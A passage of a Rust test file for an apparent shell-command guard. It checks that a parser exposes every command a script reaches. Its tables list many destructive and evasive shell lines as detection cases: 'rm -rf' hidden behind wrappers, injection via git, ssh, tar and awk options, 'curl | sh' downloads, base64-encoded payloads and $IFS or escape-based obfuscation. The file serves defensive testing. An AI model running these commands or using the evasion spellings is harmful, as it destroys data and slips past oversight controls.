//! What lines run: every command that is reached, with what it was reached through.
//!
//! A row is a line and, in order, `through > words` of each command; bare assignments and
//! redirections are left out. A place that could not be read stands at the end with a question mark.

use ruleward::domain::shell::{Dialect, parse};

type Row = (&'static str, &'static [&'static str]);

fn check(dialect: Dialect, rows: &[Row]) {
    let mut wrong = Vec::new();
    for (line, expected) in rows {
        let script = parse(line, dialect);
        let commands = script.commands.iter().filter(|command| !command.words.is_empty());
        let mut found: Vec<String> =
            commands.map(|command| [command.call_chain.as_slice(), &[command.text()]].concat().join(" > ")).collect();
        found.extend(script.opaque.iter().map(|opaque| format!("?{:?}", opaque.reason)));
        if found != *expected {
            wrong.push(format!("{line}\n  expected {expected:?}\n  found    {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn separators_part_commands() {
    check(Dialect::Posix, SEPARATORS_PART_COMMANDS);
}

const SEPARATORS_PART_COMMANDS: &[Row] = &[
    ("ls; rm -rf T", &["ls", "rm -rf T"]),
    ("a & rm -rf T", &["a", "rm -rf T"]),
    ("a\nrm -rf T", &["a", "rm -rf T"]),
    ("x |& rm -rf T", &["x", "rm -rf T"]),
    ("rm -rf T&", &["rm -rf T"]),
    ("a && rm -rf T || b", &["a", "rm -rf T", "b"]),
    ("ls|rm -rf T", &["ls", "rm -rf T"]),
    ("ls;;rm -rf T", &["ls", "rm -rf T", "?Rejected"]),
    ("ls # ; rm -rf T", &["ls"]),
    ("ls\r\nrm -rf T", &["ls", "rm -rf T"]),
];

#[test]
fn control_flow_is_walked() {
    check(Dialect::Posix, CONTROL_FLOW_IS_WALKED);
}

const CONTROL_FLOW_IS_WALKED: &[Row] = &[
    ("(rm -rf T)", &["rm -rf T"]),
    ("( cd x; (rm -rf T) )", &["cd x", "rm -rf T"]),
    ("{ rm -rf T; }", &["rm -rf T"]),
    ("if true; then rm -rf T; else echo no; fi", &["true", "rm -rf T", "echo no"]),
    ("if rm -rf T; then :; fi", &["rm -rf T", ":"]),
    ("for i in 1 2; do rm -rf T; done", &["rm -rf T", "rm -rf T"]),
    ("for ((i=0;i<3;i++)); do rm -rf T; done", &["rm -rf T"]),
    ("while rm -rf T; do :; done", &["rm -rf T", ":"]),
    ("until false; do rm -rf T; done", &["false", "rm -rf T"]),
    ("case x in a|b) rm -rf T;; *) ls;; esac", &["rm -rf T", "ls"]),
    ("case x in (a) rm -rf T;& b) ls;; esac", &["rm -rf T", "ls"]),
    ("select x in a b; do rm -rf T; done", &["rm -rf T", "rm -rf T"]),
    ("f(){ rm -rf T; }; f", &["f", "f() > rm -rf T"]),
    ("function f { rm -rf T; }; f", &["f", "f() > rm -rf T"]),
    ("f() { rm -rf \"$1\"; }; f T", &["f T", "f() > rm -rf T"]),
    ("f() (rm -rf T)", &["f() > rm -rf T"]),
    ("coproc rm -rf T", &["rm -rf T"]),
    ("coproc X { rm -rf T; }", &["rm -rf T"]),
    ("! rm -rf T", &["rm -rf T"]),
    ("!(rm -rf T)", &["rm -rf T"]),
    ("time -p rm -rf T", &["time -p rm -rf T", "time > rm -rf T"]),
    ("time { rm -rf T; }", &["rm -rf T"]),
    ("[[ -f x ]] && rm -rf T", &["rm -rf T"]),
    ("[[ $(rm -rf T) == x ]]", &["$(…) > rm -rf T"]),
    ("[[ a > b || c < d ]] && ls", &["ls"]),
    ("((x = $(rm -rf T)))", &["$(…) > rm -rf T"]),
];

#[test]
fn substitutions_run() {
    check(Dialect::Posix, SUBSTITUTIONS_RUN);
}

const SUBSTITUTIONS_RUN: &[Row] = &[
    ("echo $(rm -rf T)", &["$(…) > rm -rf T", "echo $(…)"]),
    ("echo `rm -rf T`", &["`…` > rm -rf T", "echo $(…)"]),
    ("echo \"$(rm -rf T)\"", &["$(…) > rm -rf T", "echo $(…)"]),
    ("echo \"`rm -rf T`\"", &["`…` > rm -rf T", "echo $(…)"]),
    ("cat <(rm -rf T)", &["<(…) > rm -rf T", "cat /dev/fd/63"]),
    ("tee >(rm -rf T)", &[">(…) > rm -rf T", "tee /dev/fd/63"]),
    ("echo \"${x:-$(rm -rf T)}\"", &["$(…) > rm -rf T", "echo $(…)"]),
    ("echo ${x:-`rm -rf T`}", &["`…` > rm -rf T", "echo $(…)"]),
    ("echo $(( $(rm -rf T) + 1 ))", &["$(…) > rm -rf T", "echo $((…))"]),
    ("echo $((1 + 2))", &["echo $((…))"]),
    ("cat <<EOF\n$(rm -rf T)\nEOF", &["$(…) > rm -rf T", "cat"]),
    ("cat <<'EOF'\n$(rm -rf T)\nEOF", &["cat"]),
    ("cat <<-EOF\n\t$(rm -rf T)\n\tEOF\nls", &["$(…) > rm -rf T", "cat", "ls"]),
    ("x=$(rm -rf T)", &["$(…) > rm -rf T"]),
    ("a[$(rm -rf T)]=1", &["$(…) > rm -rf T"]),
    ("echo ${a[$(rm -rf T)]}", &["$(…) > rm -rf T", "echo ${a}"]),
    ("echo ${x/$(rm -rf T)/b}", &["$(…) > rm -rf T", "echo ${x}"]),
    ("> $(rm -rf T)", &["$(…) > rm -rf T"]),
];

#[test]
fn wrappers_are_looked_through() {
    check(Dialect::Posix, WRAPPERS_ARE_LOOKED_THROUGH);
}

const WRAPPERS_ARE_LOOKED_THROUGH: &[Row] = &[
    ("A=1 B='x y' rm -rf T", &["rm -rf T"]),
    ("env -i rm -rf T", &["env -i rm -rf T", "env > rm -rf T"]),
    ("env A=1 rm -rf T", &["env A=1 rm -rf T", "env > rm -rf T"]),
    ("env -u X -C /tmp rm -rf T", &["env -u X -C /tmp rm -rf T", "env > rm -rf T"]),
    ("env -S 'rm -rf T'", &["env -S rm -rf T", "env -S > rm -rf T"]),
    ("env -S 'rm -rf' T", &["env -S rm -rf T", "env -S > rm -rf T"]),
    ("sudo -u u -- rm -rf T", &["sudo -u u -- rm -rf T", "sudo > rm -rf T"]),
    ("sudo -E -H -u root rm -rf T", &["sudo -E -H -u root rm -rf T", "sudo > rm -rf T"]),
    ("sudo FOO=1 rm -rf T", &["sudo FOO=1 rm -rf T", "sudo > rm -rf T"]),
    ("sudo -uroot rm -rf T", &["sudo -uroot rm -rf T", "sudo > rm -rf T"]),
    ("doas rm -rf T", &["doas rm -rf T", "doas > rm -rf T"]),
    ("nohup rm -rf T &", &["nohup rm -rf T", "nohup > rm -rf T"]),
    ("nice -n 10 rm -rf T", &["nice -n 10 rm -rf T", "nice > rm -rf T"]),
    ("nice -10 rm -rf T", &["nice -10 rm -rf T", "nice > rm -rf T"]),
    ("ionice -c2 -n7 rm -rf T", &["ionice -c2 -n7 rm -rf T", "ionice > rm -rf T"]),
    ("chrt -r 1 rm -rf T", &["chrt -r 1 rm -rf T", "chrt > rm -rf T"]),
    ("taskset -c 0 rm -rf T", &["taskset -c 0 rm -rf T", "taskset > rm -rf T"]),
    ("timeout -k 1 5 rm -rf T", &["timeout -k 1 5 rm -rf T", "timeout > rm -rf T"]),
    ("timeout --signal=KILL 5s rm -rf T", &["timeout --signal=KILL 5s rm -rf T", "timeout > rm -rf T"]),
    ("stdbuf -oL rm -rf T", &["stdbuf -oL rm -rf T", "stdbuf > rm -rf T"]),
    ("setsid -w rm -rf T", &["setsid -w rm -rf T", "setsid > rm -rf T"]),
    ("flock /tmp/l rm -rf T", &["flock /tmp/l rm -rf T", "flock > rm -rf T"]),
    ("flock /tmp/l -c 'rm -rf T'", &["flock /tmp/l -c rm -rf T", "flock -c > rm -rf T"]),
    ("chroot /mnt rm -rf T", &["chroot /mnt rm -rf T", "chroot > rm -rf T"]),
    ("unshare -r rm -rf T", &["unshare -r rm -rf T", "unshare > rm -rf T"]),
    ("nsenter -t 1 -m rm -rf T", &["nsenter -t 1 -m rm -rf T", "nsenter > rm -rf T"]),
    ("systemd-run --user --scope rm -rf T", &["systemd-run --user --scope rm -rf T", "systemd-run > rm -rf T"]),
    ("caffeinate -i rm -rf T", &["caffeinate -i rm -rf T", "caffeinate > rm -rf T"]),
    ("watch -n 1 rm -rf T", &["watch -n 1 rm -rf T", "watch > rm -rf T"]),
    ("watch 'rm -rf T; ls'", &["watch rm -rf T; ls", "watch > rm -rf T", "watch > ls"]),
    ("entr rm -rf T", &["entr rm -rf T", "entr > rm -rf T"]),
    ("strace -f -o /tmp/o rm -rf T", &["strace -f -o /tmp/o rm -rf T", "strace > rm -rf T"]),
    ("ltrace rm -rf T", &["ltrace rm -rf T", "ltrace > rm -rf T"]),
    ("gdb --args rm -rf T", &["gdb --args rm -rf T", "gdb > rm -rf T"]),
    ("script -qc 'rm -rf T' /dev/null", &["script -qc rm -rf T /dev/null", "script -c > rm -rf T"]),
    ("su -c 'rm -rf T'", &["su -c rm -rf T", "su -c > rm -rf T"]),
    ("su - user -c 'rm -rf T'", &["su - user -c rm -rf T", "su -c > rm -rf T"]),
    ("runuser -u user -- rm -rf T", &["runuser -u user -- rm -rf T", "runuser > rm -rf T"]),
    ("runuser user -c 'rm -rf T'", &["runuser user -c rm -rf T", "runuser -c > rm -rf T"]),
    ("pkexec rm -rf T", &["pkexec rm -rf T", "pkexec > rm -rf T"]),
    ("command rm -rf T", &["command rm -rf T", "command > rm -rf T"]),
    ("command -v rm", &["command -v rm"]),
    ("builtin cd /tmp", &["builtin cd /tmp", "builtin > cd /tmp"]),
    ("exec -a ls rm -rf T", &["exec -a ls rm -rf T", "exec > rm -rf T"]),
    ("exec rm -rf T", &["exec rm -rf T", "exec > rm -rf T"]),
    ("torsocks rm -rf T", &["torsocks rm -rf T", "torsocks > rm -rf T"]),
    ("proot -r / rm -rf T", &["proot -r / rm -rf T", "proot > rm -rf T"]),
    ("bwrap --bind / / --dev /dev rm -rf T", &["bwrap --bind / / --dev /dev rm -rf T", "bwrap > rm -rf T"]),
    ("firejail --quiet rm -rf T", &["firejail --quiet rm -rf T", "firejail > rm -rf T"]),
    ("xvfb-run -a rm -rf T", &["xvfb-run -a rm -rf T", "xvfb-run > rm -rf T"]),
    ("rlwrap rm -rf T", &["rlwrap rm -rf T", "rlwrap > rm -rf T"]),
    ("direnv exec . rm -rf T", &["direnv exec . rm -rf T", "direnv exec > rm -rf T"]),
    (
        "nix run nixpkgs#busybox -- rm -rf T",
        &["nix run nixpkgs#busybox -- rm -rf T", "nix run > busybox rm -rf T", "nix run > busybox > rm -rf T"],
    ),
    ("nix shell nixpkgs#coreutils -c rm -rf T", &["nix shell nixpkgs#coreutils -c rm -rf T", "nix shell > rm -rf T"]),
    ("nix-shell -p x --run 'rm -rf T'", &["nix-shell -p x --run rm -rf T", "nix-shell --run > rm -rf T"]),
    ("uv run rm -rf T", &["uv run rm -rf T", "uv run > rm -rf T"]),
    ("poetry run rm -rf T", &["poetry run rm -rf T", "poetry run > rm -rf T"]),
    ("npx rimraf T", &["npx rimraf T", "npx > rimraf T"]),
    ("npx -y rimraf T", &["npx -y rimraf T", "npx > rimraf T"]),
    ("npx -c 'rm -rf T'", &["npx -c rm -rf T", "npx -c > rm -rf T"]),
    ("npm exec -- rimraf T", &["npm exec -- rimraf T", "npm exec > rimraf T"]),
    (
        "docker run --rm -v /:/h alpine rm -rf /h/T",
        &["docker run --rm -v /:/h alpine rm -rf /h/T", "docker run > rm -rf /h/T"],
    ),
    (
        "docker run --entrypoint sh alpine -c 'rm -rf T'",
        &[
            "docker run --entrypoint sh alpine -c rm -rf T",
            "docker run > sh -c rm -rf T",
            "docker run > sh -c > rm -rf T",
        ],
    ),
    (
        "docker exec -it -u root c1 sh -c 'rm -rf T'",
        &[
            "docker exec -it -u root c1 sh -c rm -rf T",
            "docker exec > sh -c rm -rf T",
            "docker exec > sh -c > rm -rf T",
        ],
    ),
    (
        "docker compose -f x.yml exec web rm -rf T",
        &["docker compose -f x.yml exec web rm -rf T", "docker compose exec > rm -rf T"],
    ),
    ("kubectl exec pod -c c -it -- rm -rf T", &["kubectl exec pod -c c -it -- rm -rf T", "kubectl exec > rm -rf T"]),
    (
        "kubectl -n prod exec -it deploy/x -- sh -c 'rm -rf T'",
        &[
            "kubectl -n prod exec -it deploy/x -- sh -c rm -rf T",
            "kubectl exec > sh -c rm -rf T",
            "kubectl exec > sh -c > rm -rf T",
        ],
    ),
    ("ssh h 'rm -rf T'", &["ssh h rm -rf T", "ssh > rm -rf T"]),
    ("ssh -p 22 -i k user@h rm -rf T", &["ssh -p 22 -i k user@h rm -rf T", "ssh > rm -rf T"]),
    ("ssh -t h sudo rm -rf T", &["ssh -t h sudo rm -rf T", "ssh > sudo rm -rf T", "ssh > sudo > rm -rf T"]),
    ("ssh h <<EOF\nrm -rf T\nEOF", &["ssh h", "ssh > rm -rf T"]),
    ("vagrant ssh -c 'rm -rf T'", &["vagrant ssh -c rm -rf T", "vagrant ssh -c > rm -rf T"]),
    ("busybox rm -rf T", &["busybox rm -rf T", "busybox > rm -rf T"]),
    (
        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf T",
        &["/lib64/ld-linux-x86-64.so.2 /bin/rm -rf T", "ld-linux-x86-64.so.2 > /bin/rm -rf T"],
    ),
    (
        "sudo env A=1 nice -n 5 timeout 5 bash -c 'rm -rf T'",
        &[
            "sudo env A=1 nice -n 5 timeout 5 bash -c rm -rf T",
            "sudo > env A=1 nice -n 5 timeout 5 bash -c rm -rf T",
            "sudo > env > nice -n 5 timeout 5 bash -c rm -rf T",
            "sudo > env > nice > timeout 5 bash -c rm -rf T",
            "sudo > env > nice > timeout > bash -c rm -rf T",
            "sudo > env > nice > timeout > bash -c > rm -rf T",
        ],
    ),
];

#[test]
fn runners_run_what_they_are_given() {
    check(Dialect::Posix, RUNNERS_RUN_WHAT_THEY_ARE_GIVEN);
}

const RUNNERS_RUN_WHAT_THEY_ARE_GIVEN: &[Row] = &[
    ("find . -print0 | xargs -0 rm -rf", &["find . -print0", "xargs -0 rm -rf", "xargs > rm -rf ./**"]),
    ("echo T | xargs rm -rf", &["echo T", "xargs rm -rf", "xargs > rm -rf T"]),
    ("echo T | xargs -I{} rm -rf {}", &["echo T", "xargs -I{} rm -rf {}", "xargs > rm -rf T"]),
    (
        "ls | xargs -I % sh -c 'rm -rf %'",
        &["ls", "xargs -I % sh -c rm -rf %", "xargs > sh -c rm -rf *", "xargs > sh -c > rm -rf *"],
    ),
    ("xargs -a list rm -rf", &["xargs -a list rm -rf", "xargs > rm -rf $(…)"]),
    ("xargs -n1 -P4 rm -rf", &["xargs -n1 -P4 rm -rf", "xargs > rm -rf $(…)", "?UnknownTargets"]),
    ("find . -name '*.o' -exec rm -rf {} \\;", &["find . -name *.o -exec rm -rf {} ;", "find -exec > rm -rf ./**/*.o"]),
    (
        "find . -type f -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
        &[
            "find . -type f -exec sh -c rm -rf \"$1\" _ {} ;",
            "find -exec > sh -c rm -rf \"$1\" _ ./**",
            "find -exec > sh -c > rm -rf ./**",
        ],
    ),
    ("find . -execdir rm {} +", &["find . -execdir rm {} +", "find -execdir > rm ./**"]),
    ("find . -ok rm {} \\;", &["find . -ok rm {} ;", "find -ok > rm ./**"]),
    ("find T -delete", &["find T -delete"]),
    ("fd -e o -x rm -rf", &["fd -e o -x rm -rf", "fd -x > rm -rf ./**/*.o"]),
    ("fd pattern --exec rm -rf {}", &["fd pattern --exec rm -rf {}", "fd --exec > rm -rf ./**/*pattern*"]),
    ("parallel rm -rf ::: a b", &["parallel rm -rf ::: a b", "parallel > rm -rf a", "parallel > rm -rf b"]),
    ("parallel -j4 'rm -rf {}' ::: T", &["parallel -j4 rm -rf {} ::: T", "parallel > rm -rf T"]),
    ("ls | parallel rm -rf", &["ls", "parallel rm -rf", "parallel > rm -rf *"]),
    ("git bisect run rm -rf T", &["git bisect run rm -rf T", "git bisect run > rm -rf T"]),
    (
        "git rebase -i --exec 'rm -rf T' HEAD~3",
        &["git rebase -i --exec rm -rf T HEAD~3", "git rebase --exec > rm -rf T"],
    ),
    ("git rebase -x 'rm -rf T' main", &["git rebase -x rm -rf T main", "git rebase -x > rm -rf T"]),
    ("git submodule foreach 'rm -rf T'", &["git submodule foreach rm -rf T", "git submodule foreach > rm -rf T"]),
    ("git -c alias.z='!rm -rf T' z", &["git -c alias.z=!rm -rf T z", "git -c alias.z > rm -rf T"]),
    (
        "git -c alias.z='push --force' z origin",
        &["git -c alias.z=push --force z origin", "git -c alias.z > git push --force origin"],
    ),
    ("git -c core.pager='rm -rf T' log", &["git -c core.pager=rm -rf T log", "git -c core.pager > rm -rf T"]),
    (
        "git -C /r -c core.sshCommand='rm -rf T' fetch",
        &["git -C /r -c core.sshCommand=rm -rf T fetch", "git -c core.sshCommand > rm -rf T"],
    ),
    ("git config alias.z '!rm -rf T'", &["git config alias.z !rm -rf T", "git config alias.z > rm -rf T"]),
    (
        "git clone 'ext::sh -c rm% -rf% T'",
        &["git clone ext::sh -c rm% -rf% T", "git ext:: > sh -c rm -rf T", "git ext:: > sh -c > rm -rf T"],
    ),
    (
        "tar cf x --checkpoint=1 --checkpoint-action=exec='rm -rf T' .",
        &["tar cf x --checkpoint=1 --checkpoint-action=exec=rm -rf T .", "tar --checkpoint-action > rm -rf T"],
    ),
    ("tar -cf x -I 'rm -rf T' .", &["tar -cf x -I rm -rf T .", "tar -I > rm -rf T"]),
    ("rsync -e 'rm -rf T' a b", &["rsync -e rm -rf T a b", "rsync -e > rm -rf T"]),
    ("ssh -o ProxyCommand='rm -rf T' h", &["ssh -o ProxyCommand=rm -rf T h", "ssh -o > rm -rf T"]),
    ("ssh -oProxyCommand='rm -rf T' h ls", &["ssh -oProxyCommand=rm -rf T h ls", "ssh -o > rm -rf T", "ssh > ls"]),
    ("awk 'BEGIN { system(\"rm -rf T\") }'", &["awk BEGIN { system(\"rm -rf T\") }", "awk > rm -rf T"]),
    ("awk 'BEGIN { \"rm -rf T\" | getline }'", &["awk BEGIN { \"rm -rf T\" | getline }", "awk > rm -rf T"]),
    ("awk '{ print | \"rm -rf T\" }' f", &["awk { print | \"rm -rf T\" } f", "awk > rm -rf T"]),
    ("awk '{ print \"rm -rf T\" }' f", &["awk { print \"rm -rf T\" } f"]),
    ("vim -c '!rm -rf T' f", &["vim -c !rm -rf T f", "vim -c > rm -rf T"]),
    ("vim '+!rm -rf T' f", &["vim +!rm -rf T f", "vim +! > rm -rf T"]),
    ("less '+!rm -rf T' f", &["less +!rm -rf T f", "less +! > rm -rf T"]),
    ("man -P 'rm -rf T' ls", &["man -P rm -rf T ls", "man -P > rm -rf T"]),
    ("echo '* * * * * rm -rf T' | crontab -", &["echo * * * * * rm -rf T", "crontab -", "crontab > rm -rf T"]),
    ("echo 'rm -rf T' | at now", &["echo rm -rf T", "at now", "at > rm -rf T"]),
    ("at now <<< 'rm -rf T'", &["at now", "at > rm -rf T"]),
    ("trap 'rm -rf T' EXIT", &["trap rm -rf T EXIT", "trap > rm -rf T"]),
    ("trap - EXIT", &["trap - EXIT"]),
    ("PROMPT_COMMAND='rm -rf T'", &["PROMPT_COMMAND= > rm -rf T"]),
    ("PAGER='rm -rf T' git log", &["git log", "PAGER= > rm -rf T"]),
    ("GIT_SSH_COMMAND='rm -rf T' git fetch", &["git fetch", "GIT_SSH_COMMAND= > rm -rf T"]),
];

#[test]
fn nested_code_is_read() {
    check(Dialect::Posix, NESTED_CODE_IS_READ);
}

const NESTED_CODE_IS_READ: &[Row] = &[
    ("bash -c 'rm -rf T'", &["bash -c rm -rf T", "bash -c > rm -rf T"]),
    ("bash -xec 'rm -rf T'", &["bash -xec rm -rf T", "bash -c > rm -rf T"]),
    ("bash -euo pipefail -c 'rm -rf T'", &["bash -euo pipefail -c rm -rf T", "bash -c > rm -rf T"]),
    ("bash --norc -c 'rm -rf T'", &["bash --norc -c rm -rf T", "bash -c > rm -rf T"]),
    ("sh -lc \"rm -rf T\"", &["sh -lc rm -rf T", "sh -c > rm -rf T"]),
    ("zsh -c 'rm -rf T'", &["zsh -c rm -rf T", "zsh -c > rm -rf T"]),
    ("sh -c 'sh -c \"rm -rf T\"'", &["sh -c sh -c \"rm -rf T\"", "sh -c > sh -c rm -rf T", "sh -c > sh -c > rm -rf T"]),
    ("bash -c 'rm -rf \"$1\"' _ T", &["bash -c rm -rf \"$1\" _ T", "bash -c > rm -rf T"]),
    ("bash -c '\"$@\"' _ rm -rf T", &["bash -c \"$@\" _ rm -rf T", "bash -c > rm -rf T"]),
    ("sh <<EOF\nrm -rf T\nEOF", &["sh", "sh > rm -rf T"]),
    ("bash <<< 'rm -rf T'", &["bash", "bash > rm -rf T"]),
    ("bash -s <<'EOF'\nrm -rf T\nEOF", &["bash -s", "bash > rm -rf T"]),
    ("echo 'rm -rf T' | sh", &["echo rm -rf T", "sh", "sh > rm -rf T"]),
    ("printf 'rm -rf %s' T | bash", &["printf rm -rf %s T", "bash", "bash > rm -rf T"]),
    (
        "printf '%s\\n' 'rm -rf T' | sudo bash",
        &["printf %s\\n rm -rf T", "sudo bash", "sudo > bash", "sudo > bash > rm -rf T"],
    ),
    ("cat <<EOF | sh\nrm -rf T\nEOF", &["cat", "sh", "sh > rm -rf T"]),
    ("echo 'rm -rf T' | cat | sh", &["echo rm -rf T", "cat", "sh", "sh > rm -rf T"]),
    ("{ echo rm -rf T; echo ls; } | sh", &["echo rm -rf T", "echo ls", "sh", "sh > rm -rf T", "sh > ls"]),
    ("echo cm0gLXJmIFQ= | base64 -d | sh", &["echo cm0gLXJmIFQ=", "base64 -d", "sh", "sh > rm -rf T"]),
    ("xxd -r -p x | bash", &["xxd -r -p x", "bash", "?EncodedCode"]),
    ("curl x | sh", &["curl x", "sh", "?PipedCode"]),
    (
        "curl -s x | sudo bash -s -- --yes",
        &["curl -s x", "sudo bash -s -- --yes", "sudo > bash -s -- --yes", "?PipedCode"],
    ),
    ("bash <(curl x)", &["<(…) > curl x", "bash /dev/fd/63", "?PipedCode"]),
    ("bash <(echo 'rm -rf T')", &["<(…) > echo rm -rf T", "bash /dev/fd/63", "bash > rm -rf T"]),
    ("source <(curl x)", &["<(…) > curl x", "source /dev/fd/63", "?PipedCode"]),
    ("source <(echo rm -rf T)", &["<(…) > echo rm -rf T", "source /dev/fd/63", "source > rm -rf T"]),
    (". /dev/stdin <<< 'rm -rf T'", &[". /dev/stdin", "source > rm -rf T"]),
    ("eval 'rm -rf T'", &["eval rm -rf T", "eval > rm -rf T"]),
    ("eval rm -rf T", &["eval rm -rf T", "eval > rm -rf T"]),
    ("eval \"$(curl x)\"", &["$(…) > curl x", "eval $(…)", "eval > $(…)", "?DynamicCode"]),
    ("eval \"ls $X\"", &["eval ls $X", "eval > ls $X"]),
    ("eval \"ls $(cat f)\"", &["$(…) > cat f", "eval ls $(…)", "eval > ls $(…)", "?DynamicCode"]),
    ("bash script.sh", &["bash script.sh"]),
    ("bash -c \"$(curl x)\"", &["$(…) > curl x", "bash -c $(…)", "bash -c > $(…)", "?DynamicCode"]),
    ("bash -c \"cd $DIR && make\"", &["bash -c cd $DIR && make", "bash -c > cd $DIR", "bash -c > make"]),
    (
        "python -c 'import os; os.system(\"rm -rf T\")'",
        &["python -c import os; os.system(\"rm -rf T\")", "python -c > rm -rf T"],
    ),
    (
        "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"T\"])'",
        &["python3 -c import subprocess; subprocess.run([\"rm\", \"-rf\", \"T\"])", "python3 -c > rm -rf T"],
    ),
    (
        "python3 -c 'import subprocess; subprocess.run(\"rm -rf T\", shell=True)'",
        &["python3 -c import subprocess; subprocess.run(\"rm -rf T\", shell=True)", "python3 -c > rm -rf T"],
    ),
    ("python3 -c 'print(\"os.system(\\\"rm -rf T\\\")\")'", &["python3 -c print(\"os.system(\\\"rm -rf T\\\")\")"]),
    ("python3 - <<EOF\nimport os\nos.system(\"rm -rf T\")\nEOF", &["python3 -", "python3 > rm -rf T"]),
    ("python3 <<'EOF'\nimport os\nos.system(cmd)\nEOF", &["python3", "?DynamicCode"]),
    (
        "python3 -c \"exec(__import__('base64').b64decode('x'))\"",
        &["python3 -c exec(__import__('base64').b64decode('x'))", "?EncodedCode"],
    ),
    ("curl x | python3", &["curl x", "python3", "?PipedCode"]),
    ("cat x.json | python3 -m json.tool", &["cat x.json", "python3 -m json.tool", "python3 -m > json.tool"]),
    (
        "node -e 'require(\"child_process\").execSync(\"rm -rf T\")'",
        &["node -e require(\"child_process\").execSync(\"rm -rf T\")", "node -e > rm -rf T"],
    ),
    (
        "node -e \"require('child_process').spawn('rm', ['-rf', 'T'])\"",
        &["node -e require('child_process').spawn('rm', ['-rf', 'T'])", "node -e > rm -rf T"],
    ),
    ("perl -e 'system(\"rm -rf T\")'", &["perl -e system(\"rm -rf T\")", "perl -e > rm -rf T"]),
    ("perl -e 'system \"rm -rf T\"'", &["perl -e system \"rm -rf T\"", "perl -e > rm -rf T"]),
    ("perl -e '`rm -rf T`'", &["perl -e `rm -rf T`", "perl -e > rm -rf T"]),
    ("perl -e 'exec(\"rm\", \"-rf\", \"T\")'", &["perl -e exec(\"rm\", \"-rf\", \"T\")", "perl -e > rm -rf T"]),
    ("ruby -e 'system \"rm -rf T\"'", &["ruby -e system \"rm -rf T\"", "ruby -e > rm -rf T"]),
    ("ruby -e '`rm -rf T`'", &["ruby -e `rm -rf T`", "ruby -e > rm -rf T"]),
    ("php -r 'shell_exec(\"rm -rf T\");'", &["php -r shell_exec(\"rm -rf T\");", "php -r > rm -rf T"]),
    ("lua -e 'os.execute(\"rm -rf T\")'", &["lua -e os.execute(\"rm -rf T\")", "lua -e > rm -rf T"]),
    (
        "osascript -e 'do shell script \"rm -rf T\"'",
        &["osascript -e do shell script \"rm -rf T\"", "osascript -e > rm -rf T"],
    ),
    ("deno eval 'Deno.run({cmd: [\"ls\"]})'", &["deno eval Deno.run({cmd: [\"ls\"]})", "?DynamicCode"]),
    ("pwsh -EncodedCommand abc", &["pwsh -EncodedCommand abc", "?EncodedCode"]),
    (
        "pwsh -Command 'Remove-Item -Recurse -Force T'",
        &["pwsh -Command Remove-Item -Recurse -Force T", "pwsh -c > Remove-Item -Recurse -Force T"],
    ),
    (
        "powershell.exe -NoProfile -c \"rm T; ls\"",
        &["powershell.exe -NoProfile -c rm T; ls", "powershell -c > rm T", "powershell -c > ls"],
    ),
    ("cmd /c 'del /f /q T'", &["cmd /c del /f /q T", "cmd /c > del /f /q T"]),
    ("jq -r .cmd f | sh", &["jq -r .cmd f", "sh", "?PipedCode"]),
];

#[test]
fn spelling_does_not_hide() {
    check(Dialect::Posix, SPELLING_DOES_NOT_HIDE);
}

const SPELLING_DOES_NOT_HIDE: &[Row] = &[
    ("r''m -rf T", &["rm -rf T"]),
    ("\"rm\" -rf T", &["rm -rf T"]),
    ("r\\m -rf T", &["rm -rf T"]),
    ("\\rm -rf T", &["rm -rf T"]),
    ("$'rm' -rf T", &["rm -rf T"]),
    ("$'\\x72m' -rf T", &["rm -rf T"]),
    ("$'\\162\\155' -rf T", &["rm -rf T"]),
    ("rm${IFS}-rf${IFS}T", &["rm -rf T"]),
    ("rm$IFS-rf$IFS'T'", &["rm -rf T"]),
    ("cat$IFS$9.env", &["cat .env"]),
    ("X=rm; $X -rf T", &["rm -rf T"]),
    ("X='rm -rf T'; $X", &["rm -rf T"]),
    ("a=r;b=m;$a$b -rf T", &["rm -rf T"]),
    ("${X:=rm} -rf T", &["rm -rf T"]),
    ("${X:-rm} -rf T", &["rm -rf T"]),
    ("{rm,-rf,T}", &["rm -rf T"]),
    ("{rm,-rf}\" T\"", &["rm T -rf T"]),
    ("/bin/rm -rf T", &["/bin/rm -rf T"]),
    ("/bin/r? -rf T", &["/bin/r? -rf T", "?DynamicProgram"]),
    ("/b*/rm -rf T", &["/b*/rm -rf T"]),
    ("$(echo rm) -rf T", &["$(…) > echo rm", "rm -rf T"]),
    ("`printf rm` -rf T", &["`…` > printf rm", "rm -rf T"]),
    ("$(which rm) -rf T", &["$(…) > which rm", "rm -rf T"]),
    ("$(command -v rm) -rf T", &["$(…) > command -v rm", "rm -rf T"]),
    ("alias x='rm -rf'; x T", &["alias x=rm -rf", "x T", "alias x > rm -rf T"]),
    ("hash -p /bin/rm ls; ls -rf T", &["hash -p /bin/rm ls", "ls -rf T", "alias ls > /bin/rm -rf T"]),
    ("r\\\nm -rf T", &["rm -rf T"]),
    ("rm \\\n -rf T", &["rm -rf T"]),
    ("set -- rm -rf T; \"$@\"", &["set -- rm -rf T", "rm -rf T"]),
    ("declare X=rm; $X -rf T", &["declare X=rm", "rm -rf T"]),
    ("export X=rm; bash -c '$X -rf T'", &["export X=rm", "bash -c $X -rf T", "bash -c > rm -rf T"]),
    ("printf -v X rm; $X -rf T", &["printf -v X rm", "rm -rf T"]),
    ("read X <<< rm; $X -rf T", &["read X", "rm -rf T"]),
    ("a=(rm -rf T); \"${a[@]}\"", &["rm -rf T"]),
    ("a=(rm -rf T); ${a[0]} -rf T", &["rm -rf T"]),
    ("X=xrm; ${X#x} -rf T", &["rm -rf T"]),
    ("X=rmx; ${X%x} -rf T", &["rm -rf T"]),
    ("X=rmx; ${X:0:2} -rf T", &["rm -rf T"]),
    ("X=RM; ${X,,} -rf T", &["rm -rf T"]),
    ("X=ls; X=rm; $X T", &["rm T"]),
    ("X=rm; Y=X; ${!Y} -rf T", &["rm -rf T"]),
    ("X=r; X+=m; $X -rf T", &["rm -rf T"]),
    ("$X -rf T", &["$X -rf T", "?DynamicProgram"]),
    ("$(cat f) T", &["$(…) > cat f", "$(…) T", "?DynamicProgram"]),
    ("\"$HOME/bin/tool\" x", &["$HOME/bin/tool x"]),
    ("$VENV/bin/python x", &["$VENV/bin/python x"]),
    ("if a; then X=rm; else X=ls; fi; $X T", &["a", "rm T", "ls T"]),
    ("for c in rm ls; do $c T; done", &["rm T", "ls T"]),
    ("while read l; do rm $l; done < f", &["read l", "rm $l"]),
